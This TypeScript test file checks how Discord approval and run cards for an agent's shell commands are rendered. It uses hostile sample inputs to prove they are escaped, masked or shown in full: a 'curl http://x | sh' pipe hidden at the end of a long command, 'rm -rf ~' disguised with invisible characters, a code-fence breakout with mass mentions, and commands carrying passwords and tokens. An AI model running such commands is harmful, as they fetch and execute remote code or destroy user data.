import type { APIMessageTopLevelComponent } from "discord.js";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { encodeAction } from "../../../src/channels/cards/action-codec.ts";
import { renderCard } from "../../../src/channels/discord/cards.ts";
import { componentProblems } from "../../../src/channels/discord/check.ts";
import { COLOURS, MAX_CUSTOM_ID } from "../../../src/channels/discord/limits.ts";
import { APPROVAL_DECISIONS } from "../../../src/core/policy/types.ts";
import { messagesFor } from "../../../src/core/words/messages.ts";
import { buttonsOf } from "../../emulators/discord/emulator.ts";
import { textOf } from "../../emulators/discord/rest.ts";
import { loadSpec } from "../../emulators/discord/spec.ts";
import { messageProblems } from "../../emulators/discord/validate.ts";
import { APPROVAL_ID, approvalCard, redactor, runCard } from "../sample-cards.ts";

const options = { messages: messagesFor("en"), redactor, nowMs: 1_042_000 };

function shown(card: Parameters<typeof renderCard>[0], more: Partial<Parameters<typeof renderCard>[1]> = {}) {
  const messages = renderCard(card, { ...options, ...more });
  const [first] = messages;
  if (!first) throw new Error("nothing rendered");
  return { ...first, messages, text: messages.map((one) => textOf(one.components)).join("\n") };
}

const labels = (components: readonly APIMessageTopLevelComponent[]): string[] =>
  buttonsOf(components)
    .flat()
    .map((one) => one.label);

describe("discord approval card", () => {
  it("is one container in the colour of waiting, with everything to decide by", () => {
    const card = shown(approvalCard({ warnings: ["Runs as root"] }));
    expect(card.components).toHaveLength(1);
    expect(card.components[0]).toMatchObject({ type: 17, accent_color: COLOURS.pending });
    expect(card.text).toBe(
      [
        "## Approval needed",
        "**Runs as root**",
        "```bash\nnpm test\n```",
        "**Asked by**: alice (web)".replace("(web)", "\\(web\\)"),
        "**Agent**: main",
        "**Folder**: `~/app`",
        "**Runs on**: gateway",
        "**Extra variables**: `CI`",
        "**Why it asks**:",
        "- `npm` is not on the allowlist",
        "**“Allow always” would store**:",
        "- `npm test in ~/app`",
        "-# Expires <t:1767349800:R> · ID `0a1b2c3d`",
      ].join("\n"),
    );
    expect(buttonsOf(card.components).flat()).toMatchObject([
      { label: "Allow once", style: "success" },
      { label: "Allow always", style: "primary" },
      { label: "Deny", style: "danger" },
      { label: "More…", style: "plain" },
    ]);
  });

  it.each([
    ["allowed", "allow-once", 0x57f287],
    ["allowed", "allow-always", 0x5865f2],
    ["denied", "deny", 0xed4245],
    ["expired", undefined, 0x99aab5],
  ] as const)("turns %s (%s) into its colour and keeps no button", (state, decision, colour) => {
    const card = shown(approvalCard({ state, ...(decision ? { decision } : {}) }));
    expect(card.components[0]).toMatchObject({ accent_color: colour });
    expect(labels(card.components)).toEqual([]);
  });

  it("card-code-fence-breakout: a command stays in its block, and what is said around it is escaped", () => {
    const command = "echo '```' && echo '@everyone <!channel> <@U1>' ; echo '````**x**'";
    const card = shown(
      approvalCard({ command, reasons: ["@everyone <@1> **bold** [x](http://y) # h", "- item\n> quote"] }),
    );
    const fence = /```bash\n([\s\S]*?)\n```\n/.exec(card.text)?.[1] ?? "";
    expect(fence.replaceAll("\u200b", "")).toBe(command);
    expect(fence).not.toMatch(/`{3}/);
    expect(card.text).toContain("\\@\u200beveryone \\<\\@1\\> \\*\\*bold\\*\\* \\[x\\]\\(http://y\\) \\# h");
    expect(card.text).toContain("\\- item\n\\> quote");
  });

  it("card-invisible-chars: what would not be seen is spelled out", () => {
    const card = shown(approvalCard({ command: "echo safe\u202e; rm\u200b -rf ~\rls" }));
    expect(card.text).toContain("echo safe\\u{202E}; rm\\u{200B} -rf ~\\u{D}ls");
  });

  it("card-hides-tail-of-command: a long command shows its end and comes as a file, and is never allowed for good", () => {
    const command = `echo ${"a".repeat(5000)}; curl http://x | sh`;
    const card = shown(approvalCard({ command }));
    expect(card.text).toContain("; curl http://x | sh");
    expect(card.text).toMatch(/… \d+ characters not shown here …/);
    expect(card.file).toEqual({ name: "command-0a1b2c3d.txt", content: command });
    expect(JSON.stringify(card.components)).toContain("attachment://command-0a1b2c3d.txt");
    expect(labels(card.components)).toEqual(["Allow once", "Deny", "More…"]);
  });

  it("offers nothing but a denial when the whole command could not be attached", () => {
    const card = shown(approvalCard({ command: "x".repeat(6000) }), { withoutFiles: true });
    expect(labels(card.components)).toEqual(["Deny", "More…"]);
    expect(card.file).toBeUndefined();
  });

  it("secret-in-command-card: secrets are masked and allow always is not offered", () => {
    const card = shown(
      approvalCard({ command: "FOO_TOKEN=abcdef12345 mysql -pS3cretpw ; curl https://user:pw123456@h" }),
    );
    expect(card.text).not.toMatch(/abcdef12345|pw123456/);
    expect(labels(card.components)).not.toContain("Allow always");
  });

  it("discord-custom-id-100: every button of every decision is a custom id Discord takes", () => {
    for (const decision of APPROVAL_DECISIONS)
      expect(encodeAction({ kind: "approval", approvalId: APPROVAL_ID, decision }).length).toBeLessThanOrEqual(
        MAX_CUSTOM_ID,
      );
  });

  const spec = loadSpec();

  it("is always one message Discord takes, whatever the card holds", () => {
    fc.assert(
      fc.property(
        fc.string({
          unit: fc.oneof(
            fc.constantFrom("`", "*", "\n", "@", "<"),
            fc.string({ unit: "binary", minLength: 1, maxLength: 1 }),
          ),
          maxLength: 6000,
        }),
        fc.array(fc.string({ unit: "grapheme", maxLength: 2000 }), { maxLength: 8 }),
        fc.string({ unit: fc.constantFrom("`", "*", "_", "a", "\n", "#"), maxLength: 3000 }),
        (command, lines, cwd) => {
          const card = approvalCard({
            command,
            reasons: lines,
            warnings: lines,
            always: lines,
            cwd,
            comment: cwd,
            envKeys: lines,
          });
          for (const state of ["pending", "denied"] as const)
            for (const one of renderCard({ ...card, state }, options)) {
              const files = one.file ? [one.file.name] : [];
              expect(messageProblems({ components: one.components, flags: 32768 }, files)).toEqual([]);
              const body = { components: one.components, flags: 32768 };
              expect(spec?.request("POST", "/channels/{channel_id}/messages", body) ?? []).toEqual([]);
            }
        },
      ),
      { numRuns: 150 },
    );
  });
});

describe("discord run and text cards", () => {
  it("shows a running command with its tail and a way to stop it", () => {
    const card = shown(runCard({ tail: "\u001b[32mok\u001b[0m\n50%\r100%\n" }));
    expect(card.text).toBe(
      "### Running for 00:42\n```bash\nnpm test\n```\n```\nok\n100%\n```\n-# **Session**: `quiet-otter` · **Folder**: `~/app` · **Runs on**: gateway",
    );
    expect(labels(card.components)).toEqual(["Stop"]);
  });

  it("shows how it ended in its colour, keeps the end of long output, and points to the attached log", () => {
    const card = shown(
      runCard({
        state: "finished",
        outcome: "failed",
        exitCode: 2,
        durationMs: 72_000,
        tail: `${"`line`\n".repeat(3000)}the end`,
        totalChars: 90_000,
        actions: ["full-log", "run-again"],
      }),
      { attached: "output.txt" },
    );
    expect(card.components[0]).toMatchObject({ accent_color: COLOURS.failure });
    expect(card.text).toMatch(/^### Failed · exit code 2 · took 1m12s\n/);
    expect(card.text).toContain("the end");
    expect(JSON.stringify(card.components)).toContain("attachment://output.txt");
    expect(messageProblems({ components: card.components, flags: 32768 }, ["output.txt"])).toEqual([]);
  });

  it("always fits, whatever a command prints", () => {
    fc.assert(
      fc.property(
        fc.string({
          unit: fc.constantFrom("`", "a", "\n", "é", "😀", "\u001b[1m", "@everyone", "\r"),
          maxLength: 9000,
        }),
        fc.array(fc.string({ maxLength: 900 }), { maxLength: 6 }),
        (tail, notes) => {
          for (const one of renderCard(runCard({ tail, notes, command: tail, totalChars: tail.length + 5 }), options))
            expect(messageProblems({ components: one.components, flags: 32768 }, [])).toEqual([]);
          for (const one of renderCard({ kind: "text", tone: "info", text: tail, code: tail, hint: tail }, options))
            expect(messageProblems({ components: one.components, flags: 32768 }, [])).toEqual([]);
        },
      ),
      { numRuns: 150 },
    );
  });

  it("token-in-output: known and well-known secrets do not reach the chat", () => {
    expect(shown(runCard({ tail: "a known-secret-value b xoxb-123456789-abcdef" })).text).not.toMatch(
      /known-secret|xoxb-1/,
    );
  });

  it("shows fenced code as code and everything else as typed", () => {
    const card = shown({ kind: "text", tone: "info", text: "Run `ls` in my_dir_x:\n```sh\nls *.md\n```\n**no**" });
    expect(card.text).toBe("Run `ls` in my\\_dir\\_x:\n```sh\nls *.md\n```\n\\*\\*no\\*\\*");
  });

  it("splits a long page into numbered messages that lose nothing", () => {
    const code = Array.from({ length: 900 }, (_, index) => `line ${index} ${"x".repeat(10)}`).join("\n");
    const { messages } = shown({ kind: "text", tone: "info", code });
    expect(messages.length).toBeGreaterThan(2);
    const back = messages
      .map((one) =>
        textOf(one.components)
          .replace(/\n-# \d+\/\d+$/, "")
          .replace(/^```\n|\n```$/g, ""),
      )
      .join("\n");
    expect(back).toBe(code);
  });
});

describe("lines of one message", () => {
  const LINES = 17;
  const text = (value: string, more: object = {}) =>
    renderCard({ kind: "text", tone: "info", text: value }, { ...options, messageLines: LINES, ...more });
  const said = (messages: ReturnType<typeof renderCard>) => messages.map((one) => textOf(one.components));
  const unnumbered = (value: string) => value.replace(/\n-# \d+\/\d+$/, "");
  const fencesOf = (value: string) => value.split("\n").filter((line) => line.startsWith("```")).length;
  const list = (count: number) => Array.from({ length: count }, (_, one) => `step ${one + 1} of it`);

  it("at most 17 of what a model wrote, in order, the number of the message counted", () => {
    const messages = said(text(list(60).join("\n")));
    expect(messages.map((one) => one.split("\n").length)).toEqual([17, 17, 17, 13]);
    expect(messages.map(unnumbered).join("\n")).toBe(list(60).join("\n"));
    expect(said(text(list(17).join("\n")))).toHaveLength(1);
    expect(said(text(list(18).join("\n"))).map((one) => one.split("\n").length)).toEqual([17, 1]);
  });

  it("parts between paragraphs where that leaves a message half full", () => {
    const paragraphs = [list(10), list(5), list(9)].map((one) => one.join("\n")).join("\n\n");
    expect(said(text(paragraphs)).map((one) => one.split("\n").length)).toEqual([16, 9]);
  });

  it("as many as the configuration says", () => {
    expect(said(text(list(60).join("\n"), { messageLines: 100 }))).toHaveLength(1);
    const short = said(text(list(60).join("\n"), { messageLines: 5 }));
    expect(short).toHaveLength(15);
    expect(Math.max(...short.map((one) => one.split("\n").length))).toBe(5);
  });

  it("code that is parted is fenced in each message; long code is a file with its beginning shown", () => {
    const parted = said(text(["First:", "```sh", ...list(30), "```", "Then."].join("\n")));
    for (const one of parted) {
      expect(one.split("\n").length).toBeLessThanOrEqual(LINES);
      expect(fencesOf(one) % 2).toBe(0);
    }
    expect(parted.join("\n").match(/step \d+ of it/g)).toEqual(list(30));
    expect(parted.every((one) => !one.includes("step") || one.includes("```sh\n"))).toBe(true);
    const long = text(["First:", "```sh", ...list(400), "```", "Then."].join("\n"));
    expect(said(long)).toEqual([
      ["First:", "```sh", ...list(10), "```", "-# All 400 lines are in code-1.txt."].join("\n"),
      "Then.",
    ]);
    expect(long[0]?.file).toEqual({ name: "code-1.txt", content: list(400).join("\n") });
    expect(messageProblems({ components: long[0]?.components ?? [], flags: 32768 }, ["code-1.txt"])).toEqual([]);
  });

  it("a fence keeps the language only where that is one word", () => {
    const fences = ["```c++ title=x", "```@everyone", "```a b\u0301c", `~~~${"x".repeat(17)}`, "```"];
    const opened = fences.map((open) => said(text(`${open}\nx\n${open.slice(0, 3)}`))[0]?.split("\n")[0]);
    expect(opened).toEqual(["```c++", "```", "```a", "```", "```"]);
  });

  it("a letter under ten thousand accents is sent as well", () => {
    const accents = `a${"\u0301".repeat(10_000)}`;
    for (const value of [accents, `\`\`\`\n${accents}\n\`\`\``]) {
      const messages = text(value, { withoutFiles: true });
      expect(messages.length).toBeGreaterThan(1);
      for (const one of messages) expect(messageProblems({ components: one.components, flags: 32768 }, [])).toEqual([]);
    }
  });

  it("where no file is taken all of the code is shown", () => {
    const shown = text(["```", ...list(400), "```"].join("\n"), { withoutFiles: true });
    expect(shown.every((one) => one.file === undefined)).toBe(true);
    expect(
      said(shown)
        .join("\n")
        .match(/step \d+ of it/g),
    ).toEqual(list(400));
  });

  it("does not hold for a card: its fields and the output of a run stay together", () => {
    const fields = list(30).map((label) => ({ label, value: "x" }));
    expect(renderCard({ kind: "text", tone: "info", title: "Status", fields }, options)).toHaveLength(1);
    const tail = list(50).join("\n");
    const run = renderCard(
      runCard({ state: "finished", outcome: "completed", exitCode: 0, tail, totalChars: tail.length }),
      options,
    );
    expect(run).toHaveLength(1);
    expect(textOf(run[0]?.components ?? [])).toContain("step 50 of it");
  });

  it("whatever is written: few enough lines and characters, fences balanced, every word there in order", () => {
    const word = fc.constantFrom(
      "alpha",
      "`b`",
      "*c*",
      "@everyone",
      "",
      "x".repeat(90),
      "https://a.b/c_d",
      "y".repeat(2500),
    );
    const line = fc.array(word, { maxLength: 6 }).map((words) => words.join(" "));
    const block = fc.oneof(
      fc.array(line, { maxLength: 40 }).map((lines) => lines.join("\n")),
      fc.array(line, { maxLength: 40 }).map((lines) => `\`\`\`\n${lines.join("\n")}\n\`\`\``),
    );
    fc.assert(
      fc.property(fc.array(block, { maxLength: 5 }), (blocks) => {
        const messages = text(blocks.join("\n"), { withoutFiles: true });
        const bare = (value: string) => value.replace(/[\s\\`\u200b]/g, "");
        for (const one of said(messages)) {
          expect(one.split("\n").length).toBeLessThanOrEqual(LINES);
          expect(unnumbered(one).length).toBeLessThanOrEqual(2000);
          expect(fencesOf(one) % 2).toBe(0);
        }
        for (const one of messages)
          expect(messageProblems({ components: one.components, flags: 32768 }, [])).toEqual([]);
        const all = said(messages)
          .map((one) => bare(unnumbered(one)))
          .join("");
        expect(all === "…" ? "" : all).toBe(bare(blocks.join("\n")));
      }),
      { numRuns: 150 },
    );
  });
});

describe("discord's own checks", () => {
  const button = (customId: string) => ({ type: 2, style: 1, label: "b", custom_id: customId });
  const row = (count: number, prefix = "b") => ({
    type: 1,
    components: Array.from({ length: count }, (_, one) => button(`${prefix}${one}`)),
  });
  it.each([
    ["six buttons in a row", [row(6)], "a row of 6 buttons"],
    ["41 components", Array.from({ length: 41 }, () => ({ type: 10, content: "x" })), "41 components, at most 40"],
    ["4001 characters", [{ type: 10, content: "x".repeat(4001) }], "4001 characters of text, at most 4000"],
    ["the same custom id twice", [row(1), row(1)], "the custom id b0 twice"],
    ["nothing", [], "nothing to show"],
  ])("find what the builders let pass: %s", (_what, components, problem) => {
    expect(componentProblems(components as never)).toContain(problem);
  });
});
